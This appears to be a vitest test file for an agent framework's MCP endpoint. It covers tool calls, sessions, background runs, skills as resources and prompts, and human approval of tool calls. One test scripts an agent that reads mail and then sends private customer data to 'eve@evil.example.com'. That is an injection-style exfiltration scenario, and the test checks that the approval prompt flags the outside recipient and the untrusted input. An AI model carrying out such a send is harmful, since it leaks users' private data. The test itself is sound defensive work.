/** `/mcp/:agent` with the SDK’s client. */
import { afterEach, describe, expect, test } from 'vitest';
import { createSession, request } from '../../client.ts';
import { play } from '../../script.ts';
import { dot, remembering } from '../../worker.ts';
import { type ConnectOptions, connect, readText } from './client.ts';

let counter = 0;
/** A new session for each test. */
const path = (agent = 'scripted') => `/mcp/${agent}?session=test-${counter++}`;
const revisions = ['2025-11-25', '2026-07-28'] as const;

afterEach(() => {
	remembering.hold = async () => {};
});

describe.each(revisions)('a client of revision %s', (revision) => {
	const open = (to = path(), options: ConnectOptions = {}) => connect(to, { revision, ...options });

	test('gets the agent’s tools under their own names, and tools that talk to the agent', async () => {
		const client = await open();
		const { tools } = await client.listTools();
		const names = tools.map(({ name }) => name);
		expect(names).toEqual(
			expect.arrayContaining(['echo', 'ask', 'agent_ask', 'agent_start', 'agent_get', 'agent_cancel']),
		);
		expect(new Set(names).size).toBe(names.length);
	});

	test('calls a tool, and an invalid call returns an error that names the wrong argument', async () => {
		const client = await open();
		expect(await client.callTool({ name: 'echo', arguments: { text: 'hello' } })).toMatchObject({
			content: [{ type: 'text', text: 'hello' }],
		});
		const wrong = await client.callTool({ name: 'echo', arguments: { text: 3 } });
		expect(wrong.isError).toBe(true);
		expect(readText(wrong)).toContain('text: ');
	});

	test('gets the notes of a tool as progress notifications', async () => {
		const client = await open();
		const seen: unknown[] = [];
		const result = await client.callTool(
			{ name: 'noisy', arguments: { times: 3 } },
			{ onprogress: ({ progress, message }) => seen.push([progress, message]) },
		);
		expect(readText(result)).toBe('3');
		expect(seen).toEqual([
			[1, 'noise: 1'],
			[2, 'noise: 2'],
			[3, 'noise: 3'],
		]);
	});

	test('gets a tool’s text, image and file as MCP content', async () => {
		const client = await open();
		const { content } = await client.callTool({ name: 'draw', arguments: { caption: 'a dot' } });
		expect(content).toMatchObject([
			{ type: 'text', text: 'a dot' },
			{ type: 'image', data: dot, mimeType: 'image/png' },
			{ type: 'resource', resource: { blob: 'aGk=', mimeType: 'text/plain' } },
		]);
	});

	test('gets a protocol error for an unknown tool', async () => {
		const client = await open();
		await expect(client.callTool({ name: 'nothing' })).rejects.toMatchObject({ code: -32602 });
	});

	test('changes the state of its session, and its next call sees the change', async () => {
		const client = await open();
		for (const count of ['1', '2'])
			expect(readText(await client.callTool({ name: 'remember', arguments: { key: 'k' } }))).toBe(count);
		const failed = await client.callTool({ name: 'remember', arguments: { key: 'k', how: 'fails' } });
		expect(failed.isError).toBe(true);
		expect(readText(await client.callTool({ name: 'remember', arguments: { key: 'k' } }))).toBe('3');
		const other = await open();
		expect(readText(await other.callTool({ name: 'remember', arguments: { key: 'k' } }))).toBe('1');
	});

	test('that cannot ask a person gets an error that names agent_start, and no tool runs', async () => {
		const client = await open();
		for (const [name, args] of [
			['pay', { amount: 5 }],
			['by_hand', {}],
			['ask', { question: 'Sure?' }],
		] as const) {
			const refused = await client.callTool({ name, arguments: args }).catch((error: unknown) => error);
			if (revision === '2025-11-25') expect(refused, name).toMatchObject({ isError: true });
			else expect(refused, name).toMatchObject({ code: -32021 });
			expect(refused instanceof Error ? refused.message : JSON.stringify(refused)).toContain('agent_start');
		}
		await client.callTool({ name: 'remember', arguments: { key: 'asked', how: 'asks' } }).catch(() => {});
		expect(readText(await client.callTool({ name: 'remember', arguments: { key: 'asked' } }))).toBe('1');
	});

	test('asks the agent, and continues with the session id from the answer', async () => {
		const client = await open('/mcp/scripted');
		play({ text: 'Hello.' });
		const first = await client.callTool({ name: 'agent_ask', arguments: { text: 'Hi' } });
		expect(first.structuredContent).toMatchObject({ status: 'completed', text: 'Hello.' });
		expect(readText(first)).toBe('Hello.');
		const { sessionId } = first.structuredContent as { readonly sessionId: string };
		const model = play({ text: 'Again.' });
		await client.callTool({ name: 'agent_ask', arguments: { text: 'More', session: sessionId } });
		expect(JSON.stringify(model.requests[0]?.messages)).toContain('Hi');
	});

	test('starts a run in the background, and reads its result later', async () => {
		const client = await open();
		play({ text: 'Done.' });
		const started = await client.callTool({ name: 'agent_start', arguments: { text: 'Go' } });
		const { sessionId } = started.structuredContent as { readonly sessionId: string };
		const look = () => client.callTool({ name: 'agent_get', arguments: { session: sessionId } });
		await expect
			.poll(async () => (await look()).structuredContent)
			.toMatchObject({ status: 'completed', text: 'Done.' });
	});

	test('cancels a run in the background', async () => {
		const client = await open();
		play({ toolCalls: [{ id: 'c', name: 'unsafe', input: {} }] });
		const started = await client.callTool({ name: 'agent_start', arguments: { text: 'Go' } });
		const { sessionId } = started.structuredContent as { readonly sessionId: string };
		const stopped = await client.callTool({ name: 'agent_cancel', arguments: { session: sessionId } });
		expect(stopped.structuredContent).toMatchObject({ status: 'cancelled' });
	});

	test('sees the waiting calls of a run', async () => {
		const client = await open();
		play({ toolCalls: [{ id: 'c', name: 'pay', input: { amount: 5 } }] });
		const asked = await client.callTool({ name: 'agent_ask', arguments: { text: 'Pay' } });
		expect(asked.structuredContent).toMatchObject({
			status: 'awaiting_tools',
			pending: [{ callId: 'c', waitsFor: 'approval', tool: 'pay', input: { amount: 5 } }],
		});
		expect(readText(asked)).toContain('/tool-results');
	});
});

describe('a client that can ask a person', () => {
	const accept = (content: Record<string, string | boolean>) => () => ({ action: 'accept' as const, content });

	test('approves a call, which runs once', async () => {
		const seen: string[] = [];
		const client = await connect(path(), {
			elicit: ({ message }) => {
				seen.push(message);
				return { action: 'accept', content: { approve: true } };
			},
		});
		expect(readText(await client.callTool({ name: 'pay', arguments: { amount: 5 } }))).toBe('paid 5');
		expect(seen).toEqual([expect.stringContaining('pay {"amount":5}')]);
	});

	test('shows the person all arguments of a call, and refuses a call whose arguments are too long to show', async () => {
		const seen: string[] = [];
		const client = await connect(path(), {
			elicit: ({ message }) => {
				seen.push(message);
				return { action: 'accept', content: { approve: true } };
			},
		});
		const pay = (length: number) => ({ name: 'pay', arguments: { amount: 5, note: `${'x'.repeat(length)}end` } });
		expect(readText(await client.callTool(pay(15_000)))).toBe('paid 5');
		expect(seen).toEqual([expect.stringContaining('xend"}')]);
		const refused = await client.callTool(pay(20_000));
		expect(refused).toMatchObject({ isError: true });
		expect(readText(refused)).toContain('too long to be shown');
		play({ toolCalls: [{ id: 'c', name: 'pay', input: pay(20_000).arguments }] }, { text: 'Paid.' });
		const asked = await client.callTool({ name: 'agent_ask', arguments: { text: 'Pay' } });
		expect(asked.structuredContent).toMatchObject({ status: 'awaiting_tools', pending: [{ callId: 'c' }] });
		expect(seen).toHaveLength(1);
	});

	test('shows the person what a call of a run would do, and why it is asked', async () => {
		const seen: string[] = [];
		const elicit: ConnectOptions['elicit'] = ({ message }) => {
			seen.push(message);
			return { action: 'accept', content: { approve: true } };
		};
		const edits = [{ path: 'a.txt', newText: 'Hello.\n' }];
		play(
			{ toolCalls: [{ id: 'p', name: 'plan_changes', input: { summary: 'Greet.', edits } }] },
			({ messages }) => {
				const [planId = ''] = /plan-[\da-f]{8}/.exec(JSON.stringify(messages.at(-1)?.content)) ?? [];
				return { toolCalls: [{ id: 'a', name: 'apply_plan', input: { planId } }] };
			},
			'Greeted.',
		);
		const planner = await connect(path('planning'), { elicit });
		expect(readText(await planner.callTool({ name: 'ask', arguments: { text: 'Greet.' } }))).toContain('Greeted.');
		expect(seen).toEqual([expect.stringMatching(/^apply_plan .*\n.*\n\+Hello\.\n.*Allow this call\?$/s)]);

		const call = (name: string, input: object) => ({ toolCalls: [{ id: name, name, input }] });
		play(
			call('find_customer', { name: 'Ada' }),
			call('read_mail', {}),
			call('send_mail', { to: 'eve@evil.example.com', text: 'Ada' }),
			'Sent.',
		);
		const sender = await connect(path('flow'), { elicit });
		await sender.callTool({ name: 'ask', arguments: { text: 'Read my mails.' } });
		expect(seen[1]).toContain('It would send this to eve@evil.example.com.');
		expect(seen[1]).toContain(
			'Strangers may have written: read_mail {}, a message by mcp. Private: find_customer {"name":"Ada"}.',
		);
	});

	test('denies a call', async () => {
		const client = await connect(path(), { elicit: accept({ approve: false }) });
		expect(await client.callTool({ name: 'pay', arguments: { amount: 5 } })).toMatchObject({ isError: true });
	});

	test('runs no tool if the person declines or closes the question', async () => {
		for (const action of ['decline', 'cancel'] as const) {
			const client = await connect(path(), { elicit: () => ({ action }) });
			expect(await client.callTool({ name: 'pay', arguments: { amount: 5 } })).toMatchObject({ isError: true });
		}
	});

	test('gives the result of a manual call', async () => {
		const client = await connect(path(), { elicit: accept({ result: 'It is done.' }) });
		expect(readText(await client.callTool({ name: 'by_hand' }))).toBe('It is done.');
	});

	test('answers the question of a tool', async () => {
		const client = await connect(path(), { elicit: accept({ answer: 'Blue' }) });
		expect(readText(await client.callTool({ name: 'ask', arguments: { question: 'Which?' } }))).toBe('Blue');
	});

	test('approves a call of a run, and the run continues', async () => {
		const client = await connect(path(), { elicit: accept({ approve: true }) });
		play({ toolCalls: [{ id: 'c', name: 'pay', input: { amount: 7 } }] }, { text: 'Paid.' });
		const asked = await client.callTool({ name: 'agent_ask', arguments: { text: 'Pay' } });
		expect(asked.structuredContent).toMatchObject({ status: 'completed', text: 'Paid.' });
	});

	test('answers the question of a run, and the run continues', async () => {
		const client = await connect(path(), { elicit: accept({ answer: 'Blue' }) });
		const model = play(
			{ toolCalls: [{ id: 'c', name: 'ask', input: { question: 'Which?' } }] },
			{ text: 'Blue it is.' },
		);
		const asked = await client.callTool({ name: 'agent_ask', arguments: { text: 'Paint' } });
		expect(asked.structuredContent).toMatchObject({ status: 'completed', text: 'Blue it is.' });
		expect(JSON.stringify(model.requests[1]?.messages)).toContain('Blue');
	});
});

describe.each(revisions)('the skills of an agent, for a client of revision %s,', (revision) => {
	test('are resources', async () => {
		const client = await connect('/mcp/equipped', { revision });
		const { resources } = await client.listResources();
		expect(resources).toContainEqual(expect.objectContaining({ uri: 'skill://bringing/SKILL.md', name: 'bringing' }));
		const { contents } = await client.readResource({ uri: 'skill://bringing/SKILL.md' });
		expect(contents).toMatchObject([{ text: expect.stringContaining('Use them.'), mimeType: 'text/markdown' }]);
		const file = await client.readResource({ uri: 'skill://bringing/references/how.md' });
		expect(file.contents).toMatchObject([{ text: 'So.' }]);
		for (const uri of ['skill://nothing/SKILL.md', 'skill://bringing/none.md', 'skill://bringing/__proto__', 'x:y'])
			await expect(client.readResource({ uri }), uri).rejects.toMatchObject({ code: -32602 });
	});

	test('are prompts, with one text argument or with the parameters of the skill’s function', async () => {
		const client = await connect('/mcp/equipped', { revision });
		const { prompts } = await client.listPrompts();
		expect(prompts).toContainEqual(expect.objectContaining({ name: 'greeting', arguments: expect.any(Array) }));
		const asking = await client.getPrompt({ name: 'asking', arguments: { request: 'About a refund.' } });
		expect(asking.messages).toMatchObject([{ role: 'user', content: { text: 'Ask.\n\nAbout a refund.' } }]);
		const greeting = await client.getPrompt({ name: 'greeting', arguments: { tone: 'warm', name: 'Ada' } });
		expect(greeting.messages).toMatchObject([{ content: { text: 'Greet Ada, warm.' } }]);
		await expect(client.getPrompt({ name: 'greeting', arguments: {} })).rejects.toThrow('arguments.');
		await expect(client.getPrompt({ name: 'nothing' })).rejects.toMatchObject({ code: -32602 });
	});

	test('have completions for prompt arguments and resource URIs', async () => {
		const client = await connect('/mcp/equipped', { revision });
		const tone = await client.complete({
			ref: { type: 'ref/prompt', name: 'greeting' },
			argument: { name: 'tone', value: 'w' },
		});
		expect(tone.completion.values).toEqual(['warm']);
		const path = await client.complete({
			ref: { type: 'ref/resource', uri: 'skill://{+path}' },
			argument: { name: 'path', value: 'bri' },
		});
		expect(path.completion.values).toEqual(['bringing/SKILL.md']);
	});
});

test('does not find a session of another agent', async () => {
	const session = await createSession('plain');
	const client = await connect(`/mcp/scripted?session=${session}`);
	await expect(client.callTool({ name: 'echo', arguments: { text: 'x' } })).rejects.toThrow('no such session');
	await expect(client.callTool({ name: 'agent_ask', arguments: { text: 'x' } })).rejects.toThrow('no such session');
});

test('answers 404 with a JSON-RPC error for an unknown agent', async () => {
	const response = await request('/mcp/nobody', { jsonrpc: '2.0', id: 1, method: 'tools/list' });
	expect(response.status).toBe(404);
	expect(await response.json()).toMatchObject({ jsonrpc: '2.0', error: { data: { code: 'not_found' } } });
});
